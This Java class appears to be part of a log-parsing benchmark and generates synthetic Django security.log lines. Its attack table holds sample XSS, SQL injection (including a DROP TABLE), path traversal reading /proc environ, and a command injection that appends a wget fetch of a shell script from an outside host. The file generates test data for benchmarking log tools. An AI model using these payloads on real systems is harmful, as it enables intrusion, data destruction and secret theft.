package io.banscope.benchmarks.log;

import java.nio.charset.StandardCharsets;

/**
 * security.log of a Django middleware, CSV without header: time, category, address, user, method,
 * path, payload. Fields are quoted where they must be.
 */
final class DjangoLines implements LineShape {
  private static final byte[] ANONYMOUS = "Anonymous".getBytes(StandardCharsets.US_ASCII);

  /** Category, method, path, payload as CSV; {@code #} in a payload is a random number. */
  private static final String[][] ATTACKS = {
    {"XSS Attack", "GET", "/", "<script>alert(#)</script>"},
    {"XSS Attack", "POST", "/search", "\"\"\"><script>alert(\"\"#\"\")</script>\""},
    {"XSS Attack", "POST", "/comment", "<img src=x onerror=alert(#)>"},
    {"SQL Injection", "GET", "/search", "1' OR '#'='#"},
    {"SQL Injection", "POST", "/search", "\"1 UNION SELECT #,#,#\""},
    {"SQL Injection", "GET", "/items", "'; DROP TABLE t#; --"},
    {"Path Traversal", "GET", "/files", "../../../../proc/#/environ"},
    {"Command Injection", "POST", "/ping", "127.0.0.1; wget http://198.51.100.7/#.sh"},
    {"Brute Force", "POST", "/login", "password#"},
    {"Brute Force", "POST", "/login", "\"a,b,#\""},
    {"Brute Force", "POST", "/login", "qwerty#"},
    {"CSRF Failure", "POST", "/transfer", "CSRF cookie # not set."}
  };

  private final Dice dice;
  private final Clients clients;
  private final FreeText text;

  DjangoLines(Dice dice, Clients clients, FreeText text) {
    this.dice = dice;
    this.clients = clients;
    this.text = text;
  }

  @Override
  public void append(LogBytes out, LogTime time) {
    time.plain(out).raw(',');
    if (dice.percent(12)) {
      out.ascii(dice.oneIn(3) ? "Logout" : "Login OK").raw(',').raw(clients.visitor()).raw(',');
      out.ascii(text.realUser()).ascii(",POST,/login,");
      return;
    }
    String[] attack = dice.of(ATTACKS);
    out.ascii(attack[0]).raw(',').raw(clients.attacker()).raw(',');
    out.raw(attack[0].equals("Brute Force") ? text.attackedUser() : ANONYMOUS).raw(',');
    out.ascii(attack[1]).raw(',').ascii(attack[2]).raw(',');
    String payload = attack[3];
    boolean quoted = payload.startsWith("\"");
    for (int i = 0; i < payload.length() - (quoted ? 1 : 0); i++) {
      if (payload.charAt(i) == '#') {
        out.number(dice.below(100_000));
      } else {
        out.raw(payload.charAt(i));
      }
    }
    text.spice(out);
    if (quoted) {
      out.raw('"');
    }
  }
}
